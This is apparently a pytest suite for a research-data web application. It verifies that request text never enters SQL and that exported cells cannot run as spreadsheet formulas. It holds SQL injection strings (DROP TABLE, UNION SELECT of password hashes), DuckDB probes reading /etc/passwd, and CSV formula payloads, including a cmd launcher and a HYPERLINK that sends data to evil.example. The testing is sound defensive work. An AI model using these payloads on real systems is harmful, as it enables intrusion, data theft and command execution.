"""Injection: what people write is never SQL, on either database and in the table engine.

The sharpest check is on the statements themselves: no text of a request ever stands in one. For
the engine of tables, whose statements hold quoted column names, it is what the queries find.
"""

import csv
import io
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy import text as sql

from fairdatabase.authorization.schemas import Role
from fairdatabase.kernel.database import Base, Database
from fairdatabase.tables.rules import FORMULA_STARTS, disarm, rearm
from tests.factories.accounts import ClientAs
from tests.factories.deposits import Work, ok, open_deposit, published, upload
from tests.factories.kernel import recorded_statements

CANARY = "zq7xv"
PAYLOADS = (
    f"{CANARY}' OR '1'='1",
    f"{CANARY}' OR 1=1 --",
    f'{CANARY}" OR ""="',
    f"{CANARY}'; DROP TABLE users; --",
    f"{CANARY}') UNION SELECT password_hash FROM users --",  # noqa: S608 - that is the point
    f"{CANARY}' AND (SELECT count(*) FROM pg_sleep(0)) > 0 --",  # noqa: S608
    f"{CANARY}\\' OR 1=1 #",
    f"{CANARY}%' ESCAPE '!",
    f"{CANARY}$$ || (SELECT 1) || $$",
    f'{CANARY}*" NEAR(x) OR ^a - NOT (',
    f"{CANARY} :title & | ! <-> (",
    f"{CANARY};\x1f\u2019\u02bc OR \uff07\uff07=\uff07",
)
COMPLAINTS = (
    "syntax error",
    "sqlite3",
    "psycopg",
    "sqlalchemy",
    "unterminated",
    "operationalerror",
    "programmingerror",
    "traceback",
    "duckdb",
    "binder error",
    "parser error",
)


def places(payload: str, file: str) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Yield requests that carry a text wherever the API takes one and the database is asked."""
    text = quote(payload, safe="")
    for path in (
        f"datasets?q={text}", f"datasets?subject={text}", f"datasets?q=gut&sort={text}",
        f"datasets?access={text}", f"datasets?year={text}", f"datasets?page={text}",
        f"users?search={text}", f"users?page={text}", f"audit?actor={text}", f"audit?action={text}",
        f"audit?subject={text}", f"audit?since={text}", f"audit?before={text}",
        f"datasets/{text}", f"datasets/{text}/versions", f"users/{text}", f"jobs/{text}",
        f"deposits/{text}", f"files/{text}/content", f"recipes/{text}",
        f"files/{file}/hierarchy?column={text}",
    ):  # fmt: skip
        yield "GET", f"/api/v1/{path}", {}
    for path in (
        f"/datasets?q={text}",
        f"/ark:/{text}/{text}",
        f"/users?search={text}",
        f"/admin/audit?actor={text}&action={text}&subject={text}",
        f"/problems/{text}",
    ):
        yield "GET", path, {"headers": {"Accept": "text/html"}}
    yield "POST", "/api/v1/auth/login", {"json": {"email": payload, "password": payload}}
    yield "POST", "/api/v1/auth/login", {"json": {"email": "a@example.org", "password": payload}}
    yield "POST", "/api/v1/auth/refresh", {"json": {"refresh_token": payload}}
    yield "POST", "/api/v1/auth/password/reset", {"json": {"token": payload, "password": payload}}
    yield "POST", "/api/v1/recipes", {"json": {"name": payload, "recipe": {"version": 1}}}
    yield "POST", "/api/v1/deposits", {"json": {"metadata": {"title": payload, "methods": payload}}}
    yield "PATCH", f"/api/v1/users/{text}/roles", {"json": {"roles": [payload]}}


@pytest.fixture
def table(client_as: ClientAs, work: Work) -> str:
    """A published table; its file's id."""
    rows = ["name,score"] + [f"person {n % 4},{n % 5}" for n in range(100)]
    roles = {"name": "insensitive", "score": "insensitive"}
    content = "\n".join(rows).encode()
    return published(client_as(Role.MEMBER), work, content, roles)[1]


def counted(database: Database) -> dict[str, int]:
    """Return the number of rows of each table that no request here adds to."""
    kept = ("users", "user_roles", "files", "data_tables", "blobs")
    with database.reading() as session:
        return {
            name: session.scalar(select(func.count()).select_from(Base.metadata.tables[name])) or 0
            for name in kept
            if name in Base.metadata.tables
        }


def test_no_text_of_a_request_stands_in_a_statement(
    database: Database, client_as: ClientAs, table: str
) -> None:
    admin = client_as(Role.ADMIN)
    before = counted(database)
    asked = 0
    for payload in PAYLOADS:
        with recorded_statements(database) as statements:
            for method, path, sent in places(payload, table):
                answer = admin.open(path, method=method, **sent)
                content = answer.get_data(as_text=True).lower()
                answer.close()
                assert answer.status_code < 500, f"{method} {path}"
                found = [word for word in COMPLAINTS if word in content]
                assert not found, f"{method} {path}: {found}"
                asked += 1
        assert not [each for each in statements if CANARY in each.lower()]
    assert counted(database) == before
    assert asked > 300


def test_a_text_in_a_statement_would_be_noticed(database: Database) -> None:
    """The control."""
    with recorded_statements(database) as statements, database.reading() as session:
        session.execute(sql(f"SELECT '{CANARY}'"))
    assert [each for each in statements if CANARY in each]


def test_a_search_finds_no_more_for_a_condition(client_as: ClientAs, table: str) -> None:
    """True and false conditions find the same: nothing, where the word finds nothing."""
    admin = client_as(Role.ADMIN)
    for path, found in (("datasets?q=gut", 1), ("users?search=ada", 1)):
        assert admin.get(f"/api/v1/{path}").get_json()["meta"]["total"] == found
    for path in ("datasets?q={}", "users?search={}", "datasets?subject={}"):
        for payload in (*PAYLOADS, f"{CANARY}' OR '1'='2", f"{CANARY}' AND '1'='1"):
            answer = admin.get(f"/api/v1/{path.format(quote(payload, safe=''))}")
            if answer.status_code == 200:
                assert answer.get_json()["meta"]["total"] == 0, payload


CELLS = (
    *PAYLOADS,
    "\"; ATTACH '/etc/passwd'; --",
    "') OR true --",
    "read_csv('/etc/passwd')",
    "$1 ? :x {} %s %",
    "COLUMNS(*)",
    "* EXCLUDE (x)",
)


@pytest.fixture
def hostile(client_as: ClientAs, work: Work) -> tuple[FlaskClient, str]:
    """A draft whose column names and cells are SQL; its owner and its file."""
    owner = client_as(Role.MEMBER)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([*(f"{cell} as a name" for cell in CELLS), "number"])
    writer.writerows([*([cell] * len(CELLS)), n] for n, cell in enumerate(CELLS))
    file = upload(owner, open_deposit(owner), out.getvalue().encode())
    work()
    return owner, file


def test_the_engine_of_tables_takes_sql_for_text(hostile: tuple[FlaskClient, str]) -> None:
    """A filter for SQL finds the one row that holds this SQL, by any column, in any way."""
    owner, file = hostile
    rows = f"/api/v1/files/{file}/rows"
    names = [column["name"] for column in ok(owner.get(f"/api/v1/files/{file}/table"))["columns"]]
    assert len(names) == len(CELLS) + 1
    for number, (name, cell) in enumerate(zip(names, CELLS, strict=False)):
        query = {
            "columns": [name, "number"],
            "filters": [{"column": name, "op": "eq", "value": cell}],
            "sort": [{"column": name, "descending": True}],
        }
        assert ok(owner.post(rows, json=query))["rows"] == [[cell, number]]
        contains = query | {"filters": [{"column": name, "op": "contains", "value": cell}]}
        assert ok(owner.post(rows, json=contains))["rows"] == [[cell, number]]
        assert [cell, number] in ok(owner.post(rows, json={
            "columns": [name, "number"], "search": cell}))["rows"]  # fmt: skip
        groups = {
            "group_by": [name],
            "measures": [{"function": "max", "column": "number"}],
            "filters": [{"column": name, "op": "in", "value": [cell, "nothing"]}],
        }
        found = ok(owner.post(f"/api/v1/files/{file}/aggregate", json=groups))["rows"]
        assert found == [[cell, number]]


def test_the_engine_knows_no_column_but_those_of_the_table(
    hostile: tuple[FlaskClient, str],
) -> None:
    owner, file = hostile
    for payload in (*CELLS, "rowid", "c0", "c0; DROP TABLE x", "(SELECT 1)", "*", "number--"):
        text = quote(payload, safe="")
        for path in (f"rows?columns={text}", f"rows?sort={text}", f"rows?sort=-{text}",
                     f"rows?filter={text}:eq:1", f"statistics?columns={text}",
                     f"export?columns={text}", f"rows?cursor={text}",
                     f"rows?filter=number:{text}:1", f"rows?limit={text}"):  # fmt: skip
            answer = owner.get(f"/api/v1/files/{file}/{path}")
            assert answer.status_code == 422, f"{path}: {answer.status_code}"
            said = answer.get_data(as_text=True).lower()
            assert not [word for word in COMPLAINTS if word in said], path
        for body in ({"group_by": [payload]}, {"measures": [{"function": payload}]},
                     {"measures": [{"function": "sum", "column": payload}]}):  # fmt: skip
            answer = owner.post(f"/api/v1/files/{file}/aggregate", json=body)
            assert answer.status_code == 422, body
    assert ok(owner.get(f"/api/v1/files/{file}/rows?columns=number&limit=1"))["rows"] == [[0]]


FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '"=1+1',
    "a;=1+1",
    "a,=1+1",
    "a\n=1+1",
    '","=1+1',
    "'=1+1",
)


@pytest.mark.parametrize("kind", ["csv", "tsv"])
def test_no_exported_cell_is_a_formula(client_as: ClientAs, work: Work, kind: str) -> None:
    """Also where a spreadsheet splits at another sign, every cell begins as text."""
    owner = client_as(Role.MEMBER)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["=name", "+other", "number"])
    writer.writerows([formula, "x", -1] for formula in FORMULAS)
    file = upload(owner, open_deposit(owner), out.getvalue().encode())
    work()
    text = owner.get(f"/api/v1/files/{file}/export?format={kind}").get_data(as_text=True)
    cells = list(
        csv.reader(io.StringIO(text, newline=""), delimiter="\t" if kind == "tsv" else ",")
    )
    header, *rows = cells
    assert header == ["'=name", "'+other", "number"]
    assert len(rows) == len(FORMULAS)
    for (cell, other, number), formula in zip(rows, FORMULAS, strict=True):
        assert not cell.startswith(tuple(FORMULA_STARTS)), formula
        assert cell.removeprefix("'") in {formula, formula.removeprefix("'"), formula.strip()}
        assert (other, number) == ("x", "-1")
    plain = json.loads(owner.get(f"/api/v1/files/{file}/export?format=json").get_data())
    assert "=1+1" in {row["=name"] for row in plain}, "the control: JSON keeps what is stored"


def test_no_cell_of_the_audit_log_is_a_formula(client_as: ClientAs) -> None:
    owner, admin = client_as(Role.MEMBER), client_as(Role.ADMIN)
    for formula in FORMULAS:
        owner.post("/api/v1/deposits", json={"metadata": {"title": formula}})
    text = admin.get("/api/v1/audit/export?format=csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) > len(FORMULAS)
    assert not [cell for cell in cells if cell.startswith(tuple(FORMULA_STARTS))]


@hypothesis_settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(st.sampled_from("'=+-@\t\n\uff1d1a."), max_size=6) | st.text(max_size=6))
def test_what_is_disarmed_comes_back(text: str) -> None:
    """Files that go out and come in again, such as hierarchies, lose nothing by it."""
    safe = disarm(text)
    assert rearm(safe) == text
    if safe.startswith(tuple(FORMULA_STARTS)):
        float(safe)
